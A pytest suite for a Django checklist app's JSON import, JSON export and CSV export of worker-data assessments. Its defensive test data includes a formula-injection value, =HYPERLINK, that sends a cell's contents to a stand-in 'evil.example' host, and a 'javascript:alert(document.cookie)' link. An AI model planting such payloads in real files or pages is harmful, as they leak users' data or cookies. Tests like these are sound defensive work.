"""Assessments as files: JSON export and import between installations, and CSV for spreadsheets."""

import copy
import csv
import io
import json
from io import StringIO

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from checklists import data_exchange, services
from checklists.data_exchange import (
    MAX_FILE_BYTES,
    AssessmentFileError,
    assessment_csv,
    assessment_to_dict,
    import_assessment,
)
from checklists.models import Answer, Assessment, ChecklistVersion, Membership, Organisation
from checklists.selectors import assessment_state, integrity_hash

pytestmark = pytest.mark.django_db

SLUG, VERSION = "west-operations-checklist", "2019-03"
NAME = "export.json"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1, "Click for the evidence")'
LINKS = ["https://docs.example.org/remedy-procedure.pdf", "http://intranet.example/minutes"]
UNANSWERED = ["9.4", "9.5", "9.6"]
ANSWERS = {
    # key: (rating, na_justification, evidence_note, evidence_links)
    "1.1": ("in_place_with_evidence", "", "Benefits statement agreed with the union.", LINKS),
    "1.2": ("in_place", "", HYPERLINK, []),
    "1.3": ("", "", "Still to be discussed with the supplier.", []),
    "2.1": ("not_applicable", "The provider needs no licence here (legal advice, May).", "", []),
    "2.4": ("planned", "", "", []),
    "3.1": ("in_place_with_evidence", "", "", ["https://docs.example.org/emergency.pdf"]),
    "5.1": ("not_started", "", "-1 workers asked so far", []),
    "6.13": ("in_place", "", "", []),
}


# --- Fixtures and helpers --------------------------------------------------------------------


@pytest.fixture
def checklist():
    return ChecklistVersion.objects.get(slug=SLUG, version=VERSION)


@pytest.fixture
def organisation(owner):
    return services.organisation_create(
        name="Northwind Apparel", kind=Organisation.Kind.BRAND, owner=owner
    )


@pytest.fixture
def project(organisation, owner):
    """A project to which every question applies."""
    return services.project_create(
        organisation=organisation,
        created_by=owner,
        name="Worker hotline for Dhaka garment suppliers",
        countries="Bangladesh, Nepal",
        sector="apparel",
        stage="pilot",
        channels=["hotline", "social_media"],
        migrant_workers=True,
        minorities_present=True,
        women_share=70,
    )


@pytest.fixture
def plain_project(organisation, owner):
    """A project without migrant workers, minorities or social media: 2.4, 5.1, 6.13 are set aside."""
    return services.project_create(
        organisation=organisation,
        created_by=owner,
        name="SMS survey in Vietnamese electronics plants",
        countries="Vietnam",
        sector="electronics",
        channels=["sms"],
    )


@pytest.fixture
def assessment(project, checklist, owner):
    assessment = services.assessment_start(
        project=project, checklist=checklist, title="Baseline, November 2026", started_by=owner
    )
    questions = {q.key: q for q in checklist.questions.all()}
    changes = [
        services.AnswerChange(
            question=q,
            rating=ANSWERS.get(q.key, ("planned",))[0],
            na_justification=ANSWERS.get(q.key, ("", ""))[1],
            evidence_note=ANSWERS.get(q.key, ("", "", ""))[2],
            evidence_links=tuple(ANSWERS.get(q.key, ("", "", "", []))[3]),
        )
        for key, q in questions.items()
        if key not in UNANSWERED
    ]
    assert (
        services.answers_record(assessment=assessment, user=owner, changes=changes).conflicts == []
    )
    return assessment


@pytest.fixture
def exported(assessment):
    return assessment_to_dict(assessment_state(assessment))


@pytest.fixture
def unchanged(assessment):
    """Assert at the end of the test that no assessment or answer was written."""
    before = (Assessment.objects.count(), Answer.objects.count())
    yield
    assert (Assessment.objects.count(), Answer.objects.count()) == before


def dump(data) -> bytes:
    return json.dumps(data, indent=2, ensure_ascii=False).encode("utf-8")


def answer_index(data, key):
    return next(i for i, a in enumerate(data["answers"]) if a["question"] == key)


def refused(raw, project, user):
    """Import expecting a refusal; return the problems, one string each."""
    with pytest.raises(AssessmentFileError) as error:
        import_assessment(raw, name=NAME, project=project, user=user)
    assert str(error.value) == "\n".join(str(p) for p in error.value.problems)
    return [str(p) for p in error.value.problems]


def answers_of(data):
    return [
        (a["question"], a["rating"], a["na_justification"], a["evidence_note"], a["evidence_links"])
        for a in data["answers"]
    ]


# --- Export -----------------------------------------------------------------------------


def test_export_contains_every_answer_in_checklist_order(exported, assessment, checklist):
    keys = [q.key for q in checklist.questions.order_by("position") if q.key not in UNANSWERED]
    assert [a["question"] for a in exported["answers"]] == keys
    answers = {a["question"]: a for a in exported["answers"]}
    assert answers["1.1"] == {
        "question": "1.1",
        "rating": "in_place_with_evidence",
        "na_justification": "",
        "evidence_note": "Benefits statement agreed with the union.",
        "evidence_links": LINKS,
        "answered_by": "Olivia Owner",
        "answered_at": answers["1.1"]["answered_at"],
    }
    assert answers["1.3"]["rating"] is None  # a note without a rating yet
    assert answers["2.1"]["na_justification"] == ANSWERS["2.1"][1]
    assert json.loads(json.dumps(exported)) == exported


def test_export_identifies_the_checklist_and_carries_the_integrity_hash(
    exported, assessment, checklist
):
    assert exported["format"] == "westcheck-assessment"
    assert exported["format_version"] == 1
    assert exported["checklist"] == {
        "slug": SLUG,
        "version": VERSION,
        "title": checklist.title,
        "content_hash": checklist.content_hash,
        "document": checklist.document,
    }
    assert exported["assessment"] == {
        "title": "Baseline, November 2026",
        "status": "draft",
        "created_at": assessment.created_at.isoformat(timespec="seconds"),
        "submitted_at": None,
        "started_by": "Olivia Owner",
        "integrity_hash": integrity_hash(assessment_state(assessment)),
    }
    assert exported["project"]["countries"] == ["Bangladesh", "Nepal"]
    assert exported["project"]["organisation"] == "Northwind Apparel"
    assert "olivia@brand.example" not in json.dumps(exported)


def test_export_summarises_the_scores(exported, assessment):
    result = assessment_state(assessment).result
    summary = exported["summary"]
    assert summary["verdict"] == result.verdict
    assert summary["score"] == round(result.overall.percent, 1)
    assert list(summary["sections"]) == [str(n) for n in range(1, 10)]
    assert summary["blocking_gaps"] == [g.key for g in result.blocking_gaps]


def test_answers_kept_on_questions_the_profile_sets_aside_are_not_exported(
    assessment, project, owner
):
    services.project_update(project=project, user=owner, migrant_workers=False)
    assessment.refresh_from_db()
    data = assessment_to_dict(assessment_state(assessment))
    assert "2.4" not in [a["question"] for a in data["answers"]]


# --- CSV ---------------------------------------------------------------------------------


def test_csv_has_a_header_and_one_row_per_question(assessment):
    rows = list(csv.reader(io.StringIO(assessment_csv(assessment_state(assessment)))))
    assert rows[0] == list(data_exchange.CSV_COLUMNS)
    assert len(rows) == 61
    by_key = {row[1]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert by_key["1.1"] == {
        "section": "1. Define the project purpose and mission",
        "key": "1.1",
        "question": "How will the collection of workers' data benefit those who provide data?",
        "critical": "yes",
        "flags": "",
        "applies": "yes",
        "applies_reason": "",
        "rating": "in_place_with_evidence",
        "rating_label": "In place with evidence",
        "na_justification": "",
        "evidence_note": "Benefits statement agreed with the union.",
        "evidence_links": " | ".join(LINKS),
        "answered_by": "Olivia Owner",
        "answered_at": by_key["1.1"]["answered_at"],
    }
    assert by_key["9.6"]["rating"] == by_key["9.6"]["answered_by"] == ""
    assert by_key["2.1"]["rating_label"] == "Not applicable"


def test_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas(assessment):
    rows = list(csv.reader(io.StringIO(assessment_csv(assessment_state(assessment)))))
    by_key = {row[1]: row for row in rows[1:]}
    note = rows[0].index("evidence_note")
    assert by_key["1.2"][note] == "'" + HYPERLINK
    assert by_key["5.1"][note] == "'-1 workers asked so far"
    assert by_key["1.1"][note] == "Benefits statement agreed with the union."
    for start in ("+", "@", "\t", "\r"):
        assert data_exchange.csv_cell(start + "1") == "'" + start + "1"


@pytest.mark.parametrize(
    "value",
    [
        "\uff1d1+1",  # full-width equals sign
        "\uff0b1",  # full-width plus sign
        "\uff0d1",  # full-width hyphen-minus
        "\uff20SUM(A1)",  # full-width commercial at
        "\ufe66HYPERLINK(A1)",  # small equals sign
        " =1+1",
        "  +1",
        "\u00a0-1",  # no-break space
        "\u3000\uff1d1+1",  # ideographic space, then a full-width equals sign
    ],
)
def test_csv_neutralises_look_alike_and_indented_formula_starts(value):
    # Spreadsheet programs read the full-width forms as the plain signs, and skip spaces.
    assert data_exchange.csv_cell(value) == "'" + value


def test_a_note_starting_with_a_full_width_equals_sign_is_text_in_the_csv(assessment, owner):
    question = assessment.checklist.questions.get(key="1.3")
    answer = Answer.objects.get(assessment=assessment, question=question)
    note = '\uff1dHYPERLINK("http://evil.example/", "Evidence")'
    change = services.AnswerChange(
        question=question, rating="planned", evidence_note=note, expected_revision=answer.revision
    )
    services.answers_record(assessment=assessment, user=owner, changes=[change])
    rows = list(csv.reader(io.StringIO(assessment_csv(assessment_state(assessment)))))
    by_key = {row[1]: row for row in rows[1:]}
    assert by_key["1.3"][rows[0].index("evidence_note")] == "'" + note


@pytest.mark.parametrize("value", ["\uff37orkers asked", "5 workers", "Notes: =1", ""])
def test_csv_leaves_ordinary_text_alone(value):
    assert data_exchange.csv_cell(value) == value


def test_csv_says_why_a_question_does_not_apply(plain_project, checklist, owner):
    assessment = services.assessment_start(
        project=plain_project, checklist=checklist, title="Baseline", started_by=owner
    )
    rows = list(csv.reader(io.StringIO(assessment_csv(assessment_state(assessment)))))
    by_key = {row[1]: row for row in rows[1:]}
    applies, reason = rows[0].index("applies"), rows[0].index("applies_reason")
    assert by_key["2.4"][applies] == "no"
    assert by_key["2.4"][reason] == "Applies only if migrant workers are involved in the project."
    assert by_key["2.3"][applies] == "yes"


# --- Import ------------------------------------------------------------------------------


def test_export_import_export_gives_the_same_answers(exported, project, owner):
    imported = import_assessment(dump(exported), name=NAME, project=project, user=owner)
    assert imported.title == "Baseline, November 2026 (imported)"
    assert imported.status == Assessment.Status.DRAFT
    assert imported.started_by == owner
    again = assessment_to_dict(assessment_state(imported))
    assert answers_of(again) == answers_of(exported)
    assert again["assessment"]["integrity_hash"] == exported["assessment"]["integrity_hash"]
    assert again["summary"] == exported["summary"]


def test_an_imported_assessment_is_a_draft_even_when_the_original_was_submitted(
    assessment, project, owner
):
    state = assessment_state(assessment)
    services.answers_record(
        assessment=assessment,
        user=owner,
        changes=[
            services.AnswerChange(
                question=q,
                rating="planned",
                expected_revision=q.answer.revision if q.answer else 0,
            )
            for q in state.unanswered
        ],
    )
    assessment = services.assessment_submit(assessment=assessment, user=owner)
    data = assessment_to_dict(assessment_state(assessment))
    assert data["assessment"]["status"] == "submitted"
    imported = import_assessment(dump(data), name=NAME, project=project, user=owner)
    assert (imported.status, imported.submitted_at, imported.submitted_by) == ("draft", None, None)


def test_a_long_title_is_shortened_to_fit_the_suffix(exported, project, owner):
    exported["assessment"]["title"] = "x" * 200
    imported = import_assessment(dump(exported), name=NAME, project=project, user=owner)
    assert len(imported.title) == 200
    assert imported.title.endswith("x… (imported)")


def test_a_byte_order_mark_is_accepted(exported, project, owner):
    imported = import_assessment(
        b"\xef\xbb\xbf" + dump(exported), name=NAME, project=project, user=owner
    )
    assert imported.answers.count() == len(exported["answers"])


# --- Malformed files: each refused with its exact problem, nothing written -----------------


def test_not_json_is_refused(project, owner, unchanged):
    assert refused(b'{"format": ', project, owner) == [
        f"{NAME}:1: not valid JSON: Expecting value (column 12)"
    ]


def test_not_utf8_is_refused(exported, project, owner, unchanged):
    raw = dump(exported).replace(b"Benefits statement", b"Benefits \xff statement")
    at = raw.index(b"\xff")
    line = raw[:at].count(b"\n") + 1
    assert refused(raw, project, owner) == [
        f"{NAME}:{line}: not valid UTF-8 (byte {at}); save the file as UTF-8"
    ]


def test_a_file_over_2_mb_is_refused(project, owner, unchanged):
    assert refused(b" " * (MAX_FILE_BYTES + 1), project, owner) == [
        f"{NAME}: file is 2,000,001 bytes; the limit is 2,000,000"
    ]


@pytest.mark.parametrize(
    ("raw", "kind"), [(b"[]", "a list"), (b'"text"', "text"), (b"1", "a number")]
)
def test_json_that_is_not_an_object_is_refused(project, owner, unchanged, raw, kind):
    assert refused(raw, project, owner) == [f"{NAME}: must be a JSON object ({{...}}), not {kind}"]


def test_another_format_is_refused(exported, project, owner, unchanged):
    exported["format"] = "westcheck-checklist"
    assert refused(dump(exported), project, owner) == [
        f'{NAME}: format: not a westcheck assessment file (expected "westcheck-assessment", '
        'found "westcheck-checklist")'
    ]
    del exported["format"]
    assert refused(dump(exported), project, owner) == [
        f'{NAME}: format: not a westcheck assessment file (expected "westcheck-assessment", '
        "found no 'format' key)"
    ]


@pytest.mark.parametrize(("version", "shown"), [(2, "2"), ("1", '"1"'), (True, "true")])
def test_an_unknown_format_version_is_refused(exported, project, owner, unchanged, version, shown):
    exported["format_version"] = version
    assert refused(dump(exported), project, owner) == [
        f"{NAME}: format_version: version {shown} is not supported; this installation reads "
        "version 1"
    ]


def test_a_checklist_version_not_loaded_here_is_refused(exported, project, owner, unchanged):
    exported["checklist"]["version"] = "2099-01"
    assert refused(dump(exported), project, owner) == [
        f"{NAME}: checklist: {SLUG} 2099-01 is not loaded in this installation; load that "
        "checklist version (python manage.py load_checklist) before importing"
    ]


def test_different_checklist_content_is_refused(exported, checklist, project, owner, unchanged):
    exported["checklist"]["content_hash"] = "0123456789ab" + "0" * 52
    assert refused(dump(exported), project, owner) == [
        f"{NAME}: checklist.content_hash: this file was made with a different checklist content: "
        f"{SLUG} {VERSION} here has hash {checklist.content_hash[:12]}, the file 0123456789ab"
    ]


def test_an_unknown_question_is_refused(exported, project, owner, unchanged):
    exported["answers"][2]["question"] = "1.99"
    assert refused(dump(exported), project, owner) == [
        f"{NAME}: answers[2].question: unknown question '1.99' (this checklist has 1.1 to 9.6)"
    ]


def test_a_question_answered_twice_is_refused(exported, project, owner, unchanged):
    exported["answers"].append(copy.deepcopy(exported["answers"][0]))
    last = len(exported["answers"]) - 1
    assert refused(dump(exported), project, owner) == [
        f"{NAME}: answers[{last}].question: question 1.1 is answered twice (also at answers[0])"
    ]


def test_a_rating_not_on_the_scale_is_refused(exported, project, owner, unchanged):
    exported["answers"][3]["rating"] = "done"
    assert refused(dump(exported), project, owner) == [
        f"{NAME}: answers[3].rating: Question {exported['answers'][3]['question']}: “done” is not a rating of this checklist."
    ]


def test_in_place_with_evidence_without_evidence_is_refused(exported, project, owner, unchanged):
    index = answer_index(exported, "1.1")
    exported["answers"][index].update(evidence_note="  ", evidence_links=[])
    assert refused(dump(exported), project, owner) == [
        f"{NAME}: answers[{index}].evidence_note: Question 1.1: Add a note or a link showing the "
        "evidence, or choose “In place”."
    ]


def test_not_applicable_where_the_question_forbids_it_is_refused(
    exported, project, owner, unchanged
):
    index = answer_index(exported, "1.1")
    exported["answers"][index].update(rating="not_applicable", na_justification="Not for us.")
    assert refused(dump(exported), project, owner) == [
        f"{NAME}: answers[{index}].rating: Question 1.1: This question cannot be marked not "
        "applicable."
    ]


def test_not_applicable_without_a_justification_is_refused(exported, project, owner, unchanged):
    index = answer_index(exported, "2.1")
    exported["answers"][index]["na_justification"] = " "
    assert refused(dump(exported), project, owner) == [
        f"{NAME}: answers[{index}].na_justification: Question 2.1: Say why this question does "
        "not apply."
    ]


def test_a_justification_on_an_applicable_answer_is_refused(exported, project, owner, unchanged):
    index = answer_index(exported, "1.2")
    exported["answers"][index]["na_justification"] = "Left over."
    assert refused(dump(exported), project, owner) == [
        f"{NAME}: answers[{index}].na_justification: only an answer rated not_applicable has a "
        "justification; remove it or rate the question not_applicable"
    ]


def test_questions_that_do_not_apply_to_the_target_project_are_refused(
    exported, plain_project, owner, unchanged
):
    index = {key: answer_index(exported, key) for key in ("2.4", "5.1", "6.13")}
    assert refused(dump(exported), plain_project, owner) == [
        f"{NAME}: answers[{index[key]}].question: Question {key}: This question does not apply "
        "to the project's profile, so it cannot be answered."
        for key in ("2.4", "5.1", "6.13")
    ]


@pytest.mark.parametrize(
    "link", ["javascript:alert(document.cookie)", "ftp://files.example/x", "not a link", 42]
)
def test_a_link_that_is_not_http_is_refused(exported, project, owner, unchanged, link):
    index = answer_index(exported, "1.1")
    exported["answers"][index]["evidence_links"] = [LINKS[0], link]
    shown = link if isinstance(link, str) else "42"
    assert refused(dump(exported), project, owner) == [
        f"{NAME}: answers[{index}].evidence_links: Question 1.1: “{shown}” is not a web address "
        "starting with http:// or https://."
    ]


def test_more_than_ten_links_are_refused(exported, project, owner, unchanged):
    index = answer_index(exported, "1.1")
    exported["answers"][index]["evidence_links"] = [f"https://e.example/{n}" for n in range(11)]
    assert refused(dump(exported), project, owner) == [
        f"{NAME}: answers[{index}].evidence_links: Question 1.1: Give at most 10 links; put the "
        "rest in one shared folder."
    ]


def test_overlong_texts_are_refused(exported, project, owner, unchanged):
    note, justification = answer_index(exported, "1.2"), answer_index(exported, "2.1")
    exported["answers"][note]["evidence_note"] = "n" * 5001
    exported["answers"][justification]["na_justification"] = "j" * 2001
    assert refused(dump(exported), project, owner) == [
        f"{NAME}: answers[{note}].evidence_note: is 5,001 characters; the limit is 5,000",
        f"{NAME}: answers[{justification}].na_justification: is 2,001 characters; the limit is "
        "2,000",
    ]


def test_answers_that_are_not_a_list_are_refused(exported, project, owner, unchanged):
    exported["answers"] = {"1.1": "in_place"}
    assert refused(dump(exported), project, owner) == [
        f"{NAME}: answers: must be a list, not an object"
    ]


def test_missing_and_unknown_keys_are_refused(exported, project, owner, unchanged):
    del exported["assessment"]
    exported["answers"][0]["notes"] = "typo for evidence_note"
    del exported["answers"][1]["rating"]
    allowed = (
        "answered_at, answered_by, evidence_links, evidence_note, na_justification, question, "
        "rating"
    )
    assert refused(dump(exported), project, owner) == [
        f"{NAME}: missing required key 'assessment'",
        f"{NAME}: answers[0]: unknown key 'notes' (allowed: {allowed})",
        f"{NAME}: answers[1]: missing required key 'rating'",
    ]


def test_values_of_the_wrong_kind_are_refused(exported, project, owner, unchanged):
    exported["checklist"]["slug"] = ["west"]
    exported["assessment"]["title"] = 2026
    exported["answers"][0] = "1.1: in place"
    exported["answers"][1].update(question=1.2, rating=2, evidence_note=None, evidence_links="x")
    assert refused(dump(exported), project, owner) == [
        f"{NAME}: checklist.slug: must be text, not a list",
        f"{NAME}: assessment.title: must be text, not a number",
        f"{NAME}: answers[0]: must be an object, not text",
        f'{NAME}: answers[1].question: must be a question key such as "1.1", not a number',
        f"{NAME}: answers[1].rating: must be a rating key or null, not a number",
        f"{NAME}: answers[1].evidence_note: must be text, not null",
        f"{NAME}: answers[1].evidence_links: must be a list of web addresses, not text",
    ]


@pytest.mark.parametrize(
    ("raw", "message"),
    [
        (b'{"format": 1, "format": 2}', "not valid JSON: duplicate key 'format'"),
        (b'{"score": NaN}', "not valid JSON: NaN is not a number JSON allows"),
        (b'{"n": ' + b"9" * 5000 + b"}", "not valid JSON: a number has too many digits"),
        (b"[" * 100_000, "not valid JSON: lists or objects are nested too deeply"),
    ],
)
def test_duplicate_keys_and_not_a_number_are_refused(project, owner, unchanged, raw, message):
    assert refused(raw, project, owner) == [f"{NAME}: {message}"]


def test_every_problem_in_a_file_is_reported_at_once(exported, project, owner, unchanged):
    exported["assessment"]["title"] = ""
    exported["answers"][3]["rating"] = "done"
    exported["answers"][5]["evidence_links"] = ["javascript:alert(1)"]
    assert refused(dump(exported), project, owner) == [
        f"{NAME}: assessment.title: must not be empty",
        f"{NAME}: answers[3].rating: Question {exported['answers'][3]['question']}: “done” is not a rating of this checklist.",
        f"{NAME}: answers[5].evidence_links: Question {exported['answers'][5]['question']}: “javascript:alert(1)” is not a web "
        "address starting with http:// or https://.",
    ]


def test_informative_parts_are_ignored(exported, project, owner):
    exported["summary"] = {"verdict": "ready", "score": 100}
    exported["project"] = "anything"
    exported["checklist"]["document"] = {}
    exported["assessment"].update(status="submitted", integrity_hash="made up", started_by=None)
    exported["answers"][0].update(answered_by="Someone Else", answered_at="yesterday")
    imported = import_assessment(dump(exported), name=NAME, project=project, user=owner)
    assert imported.status == "draft"
    assert imported.answers.get(question__key="1.1").answered_by == owner


# --- Commands ----------------------------------------------------------------------------


def test_export_and_import_commands(assessment, project, owner, tmp_path):
    path = tmp_path / "baseline.json"
    out = StringIO()
    call_command("export_assessment", str(assessment.pk), "-o", str(path), stdout=out)
    assert (
        out.getvalue() == f"Wrote assessment {assessment.pk} (Baseline, November 2026) to {path}.\n"
    )
    data = json.loads(path.read_text(encoding="utf-8"))
    assert data["assessment"]["integrity_hash"] == integrity_hash(assessment_state(assessment))

    out = StringIO()
    call_command("import_assessment", str(path), "--project", str(project.pk), stdout=out)
    imported = Assessment.objects.get(title="Baseline, November 2026 (imported)")
    count = len(data["answers"])
    assert out.getvalue() == (
        f"Imported {path} into {project} as draft assessment {imported.pk} "
        f'"Baseline, November 2026 (imported)": {count} answers, started by olivia@brand.example.\n'
        f"Integrity hash {data['assessment']['integrity_hash']} matches the file.\n"
    )
    assert imported.started_by == owner


def test_export_command_writes_to_standard_output_and_csv(assessment):
    out = StringIO()
    call_command("export_assessment", str(assessment.pk), "-o", "-", stdout=out)
    assert json.loads(out.getvalue())["format"] == "westcheck-assessment"
    out = StringIO()
    call_command("export_assessment", str(assessment.pk), "--format", "csv", stdout=out)
    assert len(list(csv.reader(io.StringIO(out.getvalue())))) == 61


def test_export_command_refuses_an_unknown_assessment():
    with pytest.raises(CommandError, match=r"^Assessment 999999 does not exist\.$"):
        call_command("export_assessment", "999999")


def test_import_command_prints_every_problem_and_fails(
    exported, plain_project, owner, tmp_path, unchanged
):
    exported["answers"][0]["rating"] = "done"
    path = tmp_path / "bad.json"
    path.write_bytes(dump(exported))
    err = StringIO()
    with pytest.raises(CommandError) as error:
        call_command("import_assessment", str(path), "--project", str(plain_project.pk), stderr=err)
    assert str(error.value) == "4 problems found; nothing was imported."
    lines = err.getvalue().splitlines()
    assert lines[0] == (
        f"{path}: answers[0].rating: Question 1.1: “done” is not a rating of this checklist."
    )
    assert len(lines) == 4


def test_import_command_refuses_a_file_over_the_limit_without_reading_it(
    project, tmp_path, unchanged
):
    path = tmp_path / "huge.json"
    path.write_bytes(b" " * (3 * MAX_FILE_BYTES))
    err = StringIO()
    with pytest.raises(CommandError, match=r"^1 problem found; nothing was imported\.$"):
        call_command("import_assessment", str(path), "--project", str(project.pk), stderr=err)
    assert err.getvalue() == f"{path}: file is 6,000,000 bytes; the limit is 2,000,000\n"


def test_import_command_refuses_a_missing_file(project, tmp_path, unchanged):
    err = StringIO()
    with pytest.raises(CommandError):
        call_command(
            "import_assessment",
            str(tmp_path / "nope.json"),
            "--project",
            str(project.pk),
            stderr=err,
        )
    assert err.getvalue() == f"{tmp_path / 'nope.json'}: cannot read: No such file or directory\n"


def test_import_command_records_the_named_editor(
    exported, project, organisation, tmp_path, django_user_model
):
    editor = django_user_model.objects.create_user(email="eddie@brand.example", name="Eddie Editor")
    Membership.objects.create(organisation=organisation, user=editor, role=Membership.Role.EDITOR)
    path = tmp_path / "export.json"
    path.write_bytes(dump(exported))
    call_command(
        "import_assessment",
        str(path),
        "--project",
        str(project.pk),
        "--user",
        "Eddie@Brand.example",
        stdout=StringIO(),
    )
    imported = Assessment.objects.get(title__endswith="(imported)")
    assert imported.started_by == editor
    assert set(imported.answers.values_list("answered_by", flat=True)) == {editor.pk}


def test_import_command_refuses_unknown_projects_and_people_who_cannot_edit(
    exported, project, outsider, tmp_path, unchanged
):
    path = tmp_path / "export.json"
    path.write_bytes(dump(exported))
    with pytest.raises(CommandError, match=r"^Project 999999 does not exist\.$"):
        call_command("import_assessment", str(path), "--project", "999999")
    with pytest.raises(CommandError, match=r"^No user has the e-mail address nobody@x\.example\.$"):
        call_command(
            "import_assessment",
            str(path),
            "--project",
            str(project.pk),
            "--user",
            "nobody@x.example",
        )
    with pytest.raises(
        CommandError,
        match=rf"^oscar@elsewhere\.example is not an owner or editor of Northwind Apparel, which "
        rf"owns project {project.pk}\.$",
    ):
        call_command(
            "import_assessment", str(path), "--project", str(project.pk), "--user", outsider.email
        )


def test_the_new_assessment_is_rolled_back_when_recording_answers_fails(
    exported, project, owner, monkeypatch, unchanged
):
    def fail(**kwargs):
        raise RuntimeError("the database went away")

    monkeypatch.setattr(services, "answers_record", fail)
    with pytest.raises(RuntimeError, match="the database went away"):
        import_assessment(dump(exported), name=NAME, project=project, user=owner)
